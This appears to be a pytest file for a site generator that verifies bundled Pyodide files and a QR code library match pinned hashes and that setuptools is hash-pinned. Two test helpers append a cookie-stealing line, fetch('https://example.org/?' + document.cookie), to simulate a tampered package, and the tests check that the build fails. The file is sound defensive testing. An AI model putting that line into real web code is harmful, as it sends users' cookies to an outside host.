"""What the site is built from is what was pinned: the Pyodide files and the QR code library it publishes have the
bytes of the pinned packages (a file changed in node_modules after npm ci stops the build), and the package that builds the project's own
package (setuptools, for the editable install) is pinned with its hash like every other."""
from __future__ import annotations

import hashlib
import json
import re
import shutil

import pytest
from mkdocs.exceptions import PluginError

from generator import qr_library
from generator.pinned import read_hash_list
from generator.qr_library import prepare_qr_library
from generator.runtime import PYODIDE_FILES, check_pyodide, prepare_runtime
from tests.catalogue import ROOT

PYODIDE = ROOT / "node_modules" / "pyodide"


def pyodide_copy(tmp_path, changed: str | None = None):
    """A project folder whose node_modules/pyodide links to the installed files, `changed` copied with a line added."""
    source = tmp_path / "node_modules" / "pyodide"
    source.mkdir(parents=True)
    for path in PYODIDE.iterdir():
        (source / path.name).symlink_to(path)
    if changed:
        (source / changed).unlink()
        shutil.copyfile(PYODIDE / changed, source / changed)
        with open(source / changed, "ab") as file:
            file.write(b"\nfetch('https://example.org/?' + document.cookie);\n")
    return source


def test_the_installed_pyodide_is_the_published_one():
    check_pyodide(PYODIDE)


@pytest.mark.parametrize("changed", ["pyodide.mjs", "pyodide.asm.wasm"])
def test_a_pyodide_file_changed_after_install_stops_the_build_before_anything_is_made(tmp_path, changed):
    pyodide_copy(tmp_path, changed)
    with pytest.raises(PluginError, match=re.escape(changed) + ".*differ from pyodide"):
        prepare_runtime(tmp_path, {})


def test_another_pyodide_version_is_named(tmp_path):
    source = pyodide_copy(tmp_path)
    (source / "package.json").unlink()
    (source / "package.json").write_text('{"version": "0.0.1"}', encoding="utf-8")
    with pytest.raises(PluginError, match="holds pyodide 0.0.1"):
        check_pyodide(source)


def test_every_published_pyodide_file_is_in_the_hash_list():
    listed = (ROOT / "generator" / "runtime_build" / "pyodide-files.sha256").read_text(encoding="utf-8")
    assert {line.split()[1] for line in listed.splitlines() if re.match(r"[0-9a-f]{64} ", line)} == set(PYODIDE_FILES)


def qr_library_copy(tmp_path, changed: bool):
    """A project folder whose node_modules holds a copy of the QR code library, its module changed if asked."""
    source = tmp_path / "node_modules" / qr_library.PACKAGE
    shutil.copytree(ROOT / "node_modules" / qr_library.PACKAGE, source)
    if changed:
        with open(source / qr_library.MODULE, "a", encoding="utf-8") as file:
            file.write("\nfetch('https://example.org/?' + document.cookie);\n")
    return source


def test_the_installed_qr_library_is_the_published_one_and_its_name_carries_its_digest(tmp_path):
    library = prepare_qr_library(ROOT)
    digest = hashlib.sha256(library.module).hexdigest()
    assert digest == read_hash_list(qr_library.HASHES)[1][qr_library.MODULE]
    assert digest[:12] in library.path
    # The same library in a copy of the project gives the same file, under the same name.
    qr_library_copy(tmp_path, changed=False)
    assert prepare_qr_library(tmp_path) == library


def test_a_qr_library_file_changed_after_install_stops_the_build(tmp_path):
    qr_library_copy(tmp_path, changed=True)
    with pytest.raises(PluginError, match=re.escape(qr_library.MODULE) + ".*differ from qrcode-generator"):
        prepare_qr_library(tmp_path)


def test_the_qr_library_is_pinned_exactly_with_its_integrity_and_its_hash_list_names_that_version():
    version = read_hash_list(qr_library.HASHES)[0]
    assert json.loads((ROOT / "package.json").read_text(encoding="utf-8"))["dependencies"][qr_library.PACKAGE] == version
    locked = json.loads((ROOT / "package-lock.json").read_text(encoding="utf-8"))["packages"]
    entry = locked[f"node_modules/{qr_library.PACKAGE}"]
    assert entry["version"] == version and entry["integrity"].startswith("sha512-")
    assert not entry.get("dependencies"), "the QR code library brings no dependency"


def test_the_editable_install_uses_the_pinned_and_hashed_setuptools():
    """pip builds an editable install with the build backend pyproject.toml names, fetched unpinned unless told to use
    the one installed, which requirements.txt pins with its hash."""
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    editable = [line for line in makefile.splitlines() if "pip install" in line and " -e " in line]
    assert editable and all("--no-build-isolation" in line and "--no-deps" in line for line in editable)
    requirements = (ROOT / "requirements.txt").read_text(encoding="utf-8")
    pinned = re.search(r"^setuptools==(\S+) \\\n((?:\s+--hash=sha256:[0-9a-f]{64}.*\n)+)", requirements, re.M)
    assert pinned, "setuptools is not pinned with its hash in requirements.txt"
    backend = (ROOT / "pyproject.toml").read_text(encoding="utf-8")
    assert 'build-backend = "setuptools.build_meta"' in backend
